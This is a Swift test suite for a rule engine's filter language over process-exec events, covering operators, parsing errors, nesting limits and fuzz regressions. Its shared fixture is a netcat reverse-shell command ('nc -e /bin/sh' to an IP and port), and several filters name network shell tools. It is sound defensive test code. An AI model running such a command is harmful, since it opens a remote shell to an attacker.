import ExecEvents
import Foundation
import RuleEngine
import Testing

@Suite struct FilterLanguageTests {
    let nc = exec(at: 1000, user: "alice", proc: "nc", args: "-e /bin/sh 10.0.0.1 4444", procId: 500)

    @Test func equalityIsCaseInsensitiveForStrings() {
        #expect(matches(#"procName = "NC""#, nc))
        #expect(matches(#"user = "Alice""#, nc))
        #expect(!matches(#"procName = "ncat""#, nc))
        #expect(matches(#"procName != "ncat""#, nc))
        #expect(!matches(#"procName != "Nc""#, nc))
        #expect(matches(#"eventType = "linux_process_exec""#, nc))
    }

    @Test func keywordsAreCaseInsensitive() {
        #expect(matches(#"procName in ("x", "nc") and not user = "bob" Or procId = 1"#, nc))
        #expect(matches(#"procName contain "N" AND swParam regexp "sh""#, nc))
    }

    @Test func orderingComparesNumbersNumericallyAndTextByCase() {
        #expect(matches("procId > 499", nc))
        #expect(matches("procId >= 500", nc))
        #expect(!matches("procId > 500", nc))
        #expect(matches("procId < 501", nc))
        #expect(matches("procId <= 500", nc))
        #expect(!matches("procId < 500", nc))
        #expect(matches("procId > 99", nc))  // numerically, not as text ("500" < "99")
        #expect(matches(#"user < "BOB""#, nc))
        #expect(matches(#"user >= "ALICE""#, nc))
        #expect(!matches(#"user > "alice""#, nc))
    }

    @Test func quotedNumbersCompareNumericallyWithNumericAttributes() {
        #expect(matches(#"procId = "500""#, nc))
        #expect(matches(#"procId = "0500""#, nc))
        #expect(matches(#"procId IN ("1", "500")"#, nc))
        #expect(!matches(#"procId = "50""#, nc))
    }

    @Test func bareNumbersCompareNumericallyWithNumericText() {
        let event = exec(at: 0, extra: ["port": .string("0080"), "label": .string("abc")])
        #expect(matches("port = 80", event))
        #expect(matches("port > 79", event))
        #expect(!matches(#"port = "80""#, event))  // quoted: compared as text
        #expect(!matches("label = 80", event))  // not a number: compared as text
        #expect(matches("label > 80", event))  // as text, "abc" > "80"
    }

    @Test func inAndNotIn() {
        #expect(matches(#"procName IN ("ncat", "NC")"#, nc))
        #expect(!matches(#"procName IN ("ncat", "netcat")"#, nc))
        #expect(matches(#"procName NOT IN ("ncat", "netcat")"#, nc))
        #expect(!matches(#"procName NOT IN ("ncat", "nC")"#, nc))
        #expect(matches("procId IN (1, 2, 500)", nc))
    }

    @Test func containAndNotContain() {
        #expect(matches(#"swParam CONTAIN "/BIN/SH""#, nc))
        #expect(!matches(#"swParam CONTAIN "/bin/bash""#, nc))
        #expect(matches(#"swParam NOT CONTAIN "/bin/bash""#, nc))
        #expect(!matches(#"swParam NOT CONTAIN "-E""#, nc))
        #expect(matches(#"procId CONTAIN "50""#, nc))
    }

    @Test func regexpIsUnanchoredAndCaseSensitiveUnlessAsked() {
        #expect(matches(#"swParam REGEXP "bin/sh""#, nc))
        #expect(matches(#"swParam REGEXP "4444$""#, nc))
        #expect(!matches(#"swParam REGEXP "^bin""#, nc))
        #expect(!matches(#"swParam REGEXP "BIN/SH""#, nc))
        #expect(matches(#"swParam REGEXP "(?i)BIN/SH""#, nc))
        #expect(matches(#"swParam REGEXP ("\d+\.\d+\.\d+\.\d+")"#, nc))
        #expect(matches(#"swParam NOT REGEXP "^-l""#, nc))
        #expect(!matches(#"swParam NOT REGEXP "-e""#, nc))
        #expect(matches(#"procName REGEXP "^(nc|ncat)$""#, nc))
    }

    @Test func isNullAndIsNotNull() {
        let bare = exec(at: 0, user: nil, proc: "nc", args: nil)
        #expect(matches("user IS NULL", bare))
        #expect(!matches("user IS NOT NULL", bare))
        #expect(matches("user is not null", nc))
        #expect(!matches("user IS NULL", nc))
        #expect(matches("nosuchattribute IS NULL", nc))
    }

    @Test func between() {
        #expect(matches("procId BETWEEN (400, 500)", nc))
        #expect(matches("procId BETWEEN (500, 600)", nc))
        #expect(!matches("procId BETWEEN (501, 600)", nc))
        #expect(matches("procId NOT BETWEEN (501, 600)", nc))
        #expect(matches(#"user BETWEEN ("A", "B")"#, nc))
    }

    @Test func missingAttributesMakeEveryComparisonFalse() {
        let bare = exec(at: 0, user: nil, proc: "nc", args: nil, procId: nil)
        for text in [
            #"user = "alice""#, #"user != "alice""#, #"user IN ("a")"#, #"user NOT IN ("a")"#,
            #"user CONTAIN "a""#, #"user NOT CONTAIN "a""#, #"user REGEXP "a""#, #"user NOT REGEXP "a""#,
            "procId < 5", "procId >= 5", "procId BETWEEN (1, 2)", "procId NOT BETWEEN (1, 2)",
        ] {
            #expect(!matches(text, bare), "\(text) should be false on a missing attribute")
        }
        // NOT (…) is plain negation.
        #expect(matches(#"NOT (user = "alice")"#, bare))
        #expect(matches(#"NOT user NOT IN ("a")"#, bare))
    }

    @Test func andOrNotAndParentheses() {
        #expect(matches(#"procName = "x" OR procName = "nc" AND user = "alice""#, nc))
        #expect(!matches(#"(procName = "x" OR procName = "nc") AND user = "bob""#, nc))
        #expect(matches(#"NOT procName = "x" AND NOT (user = "bob" OR user = "carol")"#, nc))
        #expect(!matches(#"NOT (procName = "nc")"#, nc))
    }

    @Test func stringEscapes() {
        let event = exec(at: 0, args: #"say "hi" C:\dir"#)
        #expect(matches(#"swParam = "say \"hi\" C:\\dir""#, event))
        #expect(matches(#"swParam CONTAIN "\"hi\"""#, event))
        #expect(matches(#"swParam REGEXP "C:\\\\dir""#, event))  // \\ → \ → regex \\ matches one backslash
    }

    @Test func canonicalForm() throws {
        let f = try FilterExpression(#"procname in ("a","B") and (x = 1 or y contain "q") and not z is null"#)
        #expect(f.description == #"procname IN ("a", "B") AND (x = 1 OR y CONTAIN "q") AND NOT (z IS NULL)"#)
        #expect(f.attributes.map(\.name) == ["procname", "x", "y", "z"])
    }

    private func failure(_ text: String) -> ExpressionError? {
        do {
            _ = try FilterExpression(text)
            return nil
        } catch {
            return error
        }
    }

    @Test func errorsNameTheOffendingToken() throws {
        let unknown = try #require(failure(#"procName LIKE "nc""#))
        #expect(unknown.offset == 9)
        #expect(unknown.message.hasPrefix("unknown operator 'LIKE'"))
        let doubled = try #require(failure(#"procName == "nc""#))
        #expect(doubled.offset == 9)
        #expect(doubled.message.hasPrefix("unknown operator '=='"))
        let unterminated = try #require(failure(#"procName = "nc"#))
        #expect(unterminated.offset == 11)
        #expect(unterminated.message.hasPrefix("unterminated string"))
        let regex = try #require(failure(#"procName REGEXP "(unclosed""#))
        #expect(regex.offset == 16)
        #expect(regex.message.hasPrefix("invalid regular expression"))
        let paren = try #require(failure(#"(procName = "nc""#))
        #expect(paren.message.hasPrefix("expected ')'"))
        let trailing = try #require(failure(#"procName = "nc" user = "x""#))
        #expect(trailing.offset == 16)
        #expect(trailing.message.hasPrefix("expected AND, OR or the end of the filter"))
        let list = try #require(failure(#"procName IN "nc""#))
        #expect(list.message.hasPrefix("expected '(' to start the IN list"))
        let empty = try #require(failure("   "))
        #expect(empty.message.hasPrefix("empty filter"))
    }

    @Test func nestingDeeperThan64LevelsIsAnErrorNotAStackOverflow() throws {
        // Parsing, evaluation and rendering recurse once per level: 1,234 '(' overflowed the stack.
        let parens = try #require(failure(String(repeating: "(", count: 100_000) + "procName = \"nc\""))
        #expect(parens.offset == 64)
        #expect(parens.message == "filter nested deeper than 64 levels of parentheses and NOT")
        let nots = try #require(failure(String(repeating: "NOT ", count: 100_000) + "procName = \"nc\""))
        #expect(nots.offset == 4 * 64)
        let deepest = String(repeating: "(", count: 64) + #"procName = "nc""# + String(repeating: ")", count: 64)
        #expect(matches(deepest, nc))
        #expect(throws: ExpressionError.self) {
            try AggregateExpression(String(repeating: "(", count: 100) + "COUNT(*) >= 1")
        }
    }

    /// Inputs the fuzzer found crashing (Tests/Fixtures/fuzz/FuzzFilterLanguage), through the path
    /// the FuzzFilterLanguage target takes.
    @Test func fuzzRegressions() throws {
        let directory = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
            .appendingPathComponent("Fixtures/fuzz/FuzzFilterLanguage")
        let files = try FileManager.default.contentsOfDirectory(at: directory, includingPropertiesForKeys: nil)
        #expect(!files.isEmpty)
        for file in files {
            let text = String(decoding: try Data(contentsOf: file), as: UTF8.self)
            if let filter = try? FilterExpression(text) {
                _ = filter.matches(nc)
                #expect(try FilterExpression(filter.description).description == filter.description)
            }
            _ = try? AggregateExpression(text)
        }
    }
}
